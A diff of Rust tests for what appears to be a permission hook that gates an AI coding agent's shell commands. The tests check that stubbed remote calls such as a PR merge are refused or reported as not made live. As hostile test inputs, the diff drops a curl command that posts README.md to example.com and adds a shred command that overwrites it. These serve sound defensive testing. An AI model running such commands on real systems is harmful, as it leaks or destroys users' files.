@@ -208,33 +208,51 @@ fn hex_of(b: &[u8]) -> String {
 /// was never made: the agent (and the person reading along) take the
 /// stubbed remote call as done.
 ///
-/// Fixed: `--replay-output` names the calls stubs answered and says they
-/// were not made live (before and after the replayed output), unless the
-/// live lane re-ran the command.
+/// Fixed twice over: the hook never offers such a run (a plain apply of
+/// stub-dependent work is refused; the reason names the calls), and when a
+/// person promotes its local writes anyway (`--local-only`),
+/// `--replay-output` names the calls stubs answered and says they were not
+/// made live, before and after the replayed output.
 #[test]
 fn a_replayed_stub_answer_is_never_presented_as_done() {
+    use common::daemon::{Daemon, submit_user, user_workspace};
     let w = hook_ws("dryrun-hostile2-");
+    let cmd = "gh pr merge 1 --merge && echo merged > merged.txt";
     let a = answer(&hook(
         &w,
         "claude-code",
-        claude_event(&w.ws, "gh pr merge 1 --merge && echo merged > merged.txt")
-            .to_string()
-            .as_bytes(),
+        claude_event(&w.ws, cmd).to_string().as_bytes(),
         &[],
     ));
     let o = &a["hookSpecificOutput"];
-    assert_eq!(o["permissionDecision"], "ask", "{a}");
+    assert_eq!(o["permissionDecision"], "deny", "{a}");
     let reason = o["permissionDecisionReason"].as_str().unwrap_or("");
-    assert!(reason.contains("not made"), "{a}");
-    // The person says yes: the host runs the rewrite.
-    let cmd = o["updatedInput"]["command"].as_str().unwrap();
-    let out = Command::new("bash")
-        .args(["-c", cmd])
-        .current_dir(&w.ws)
+    assert!(reason.contains("gh pr merge"), "{a}");
+    assert!(!w.ws.join("merged.txt").exists());
+    if !common::daemon::require_root() {
+        return;
+    }
+    // A reviewer approves; the agent promotes only the local writes.
+    let d = Daemon::start(&[]);
+    let ws = user_workspace();
+    let r = submit_user(&d, &ws, cmd, &["--expect-write", "merged.txt"]);
+    assert_eq!(r.decision(), "needs_approval", "{}", r.err());
+    let id = r.json["run_id"].as_str().unwrap().to_string();
+    let (code, v) = d.curl(
+        Who::Root,
+        "POST",
+        &format!("/v1/runs/{id}/approve"),
+        Some(r#"{"note":"local part only"}"#),
+    );
+    assert_eq!(code, 200, "{v}");
+    let out = d
+        .cli_user()
+        .current_dir(&ws.dir)
+        .args(["promote", &id, "--local-only", "--replay-output"])
         .output()
         .unwrap();
     let stderr = String::from_utf8_lossy(&out.stderr);
-    assert!(w.ws.join("merged.txt").exists(), "{out:?}");
+    assert!(ws.dir.join("merged.txt").exists(), "{out:?}");
     assert!(
         stderr.contains("NOT made live") && stderr.contains("gh pr merge 1 --merge"),
         "the stub's answer was replayed as if the merge happened: {out:?}"
@@ -258,7 +276,7 @@ fn a_grant_minted_before_a_restart_with_host_prompts_off_approves_nothing() {
     let r = submit_user(
         &d,
         &ws,
-        "curl -X POST https://example.com/d -d @README.md; echo x > out.txt",
+        "shred -n 0 -z README.md; echo x > out.txt",
         &["--expect-write", "out.txt"],
     );
     assert_eq!(r.decision(), "needs_approval", "{}", r.err());
@@ -420,7 +438,7 @@ fn a_declined_wait_presented_again_is_asked_again() {
         assert_eq!(o.status.code(), Some(0), "{o:?}");
         serde_json::from_slice(&o.stdout).unwrap()
     };
-    let a = run_hook("curl -X POST https://example.com/d -d @README.md");
+    let a = run_hook("shred -n 0 -z README.md");
     let o = &a["hookSpecificOutput"];
     assert_eq!(o["permissionDecision"], "ask", "{a}");
     let waiting = o["updatedInput"]["command"].as_str().unwrap().to_string();
